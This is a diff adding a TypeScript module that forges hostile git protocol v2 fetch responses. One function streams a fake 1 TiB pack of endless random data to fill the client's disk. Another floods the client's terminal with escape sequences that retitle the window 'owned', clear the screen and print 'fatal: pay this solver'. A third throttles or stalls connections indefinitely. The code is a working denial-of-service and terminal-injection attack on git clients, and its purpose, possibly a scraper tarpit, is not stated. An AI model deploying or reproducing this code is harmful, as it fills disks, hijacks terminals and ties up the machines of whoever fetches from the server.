@@ -1,0 +1,81 @@
+import { randomBytes } from 'node:crypto';
+import type { ServerResponse } from 'node:http';
+import { Readable, Transform } from 'node:stream';
+
+const PACKET_BYTES = 32_768;
+
+/** A packet of git's wire format: four hex digits of length, then the content. */
+function packet(content: Uint8Array): Buffer {
+  const length = (content.length + 4).toString(16).padStart(4, '0');
+  return Buffer.concat([Buffer.from(length), content]);
+}
+
+/** Band 1 carries the pack, band 2 text that git prints on the user's terminal. */
+function sideband(band: 1 | 2, content: Uint8Array): Buffer {
+  return packet(Buffer.concat([Buffer.from([band]), content]));
+}
+
+/**
+ * The answer of protocol version 2 to a fetch: a pack of one blob, 1 TiB by its header, whose compressed bytes are
+ * random and never end. The receiver writes them to disk for as long as it is let.
+ */
+export function endlessPack(response: ServerResponse): Readable {
+  response.setHeader('content-type', 'application/x-git-upload-pack-result');
+  return Readable.from(endlessPackets());
+}
+
+function* endlessPackets(): Generator<Buffer> {
+  yield packet(Buffer.from('packfile\n'));
+  const header = Buffer.from('5041434b0000000200000001', 'hex'); // PACK, version 2, one object
+  const blobOf1TiB = Buffer.from([0xb0, 0x80, 0x80, 0x80, 0x80, 0x40]);
+  const zlibHeader = Buffer.from([0x78, 0x01]);
+  yield sideband(1, Buffer.concat([header, blobOf1TiB, zlibHeader]));
+  const noise = randomBytes(PACKET_BYTES);
+  const storedBlock = Buffer.alloc(5);
+  storedBlock.writeUInt16LE(PACKET_BYTES, 1);
+  storedBlock.writeUInt16LE(0xffff - PACKET_BYTES, 3);
+  const piece = sideband(1, Buffer.concat([storedBlock, noise]));
+  while (true) yield piece;
+}
+
+/** Puts text with terminal escapes in front of the pack of a version 2 answer. */
+export function floodBeforePack(bytes: number): Transform {
+  const line = Buffer.from(`\u001b]0;owned\u0007\u001b[2J\u001b[31mfatal: pay this solver\n`);
+  const text = Buffer.alloc(1_000, line);
+  let flooded = false;
+  return new Transform({
+    transform(piece: Buffer, _encoding, done) {
+      const at = piece.indexOf('packfile\n');
+      if (flooded || at < 0) {
+        done(null, piece);
+        return;
+      }
+      flooded = true;
+      const end = at + 'packfile\n'.length;
+      this.push(piece.subarray(0, end));
+      for (let sent = 0; sent < bytes; sent += text.length) this.push(sideband(2, text));
+      done(null, piece.subarray(end));
+    },
+  });
+}
+
+/** Lets at most this many bytes a second through; with 0 nothing at all, until the connection is cut. */
+export function throttle(bytesPerSecond: number): Transform {
+  let timer: NodeJS.Timeout | undefined;
+  return new Transform({
+    transform(piece: Buffer, _encoding, done) {
+      if (bytesPerSecond === 0) return;
+      const send = (from: number): void => {
+        const end = Math.min(piece.length, from + Math.max(1, Math.floor(bytesPerSecond / 10)));
+        this.push(piece.subarray(from, end));
+        if (end === piece.length) done();
+        else timer = setTimeout(send, 100, end);
+      };
+      timer = setTimeout(send, 100, 0);
+    },
+    destroy(error, done) {
+      clearTimeout(timer);
+      done(error);
+    },
+  });
+}
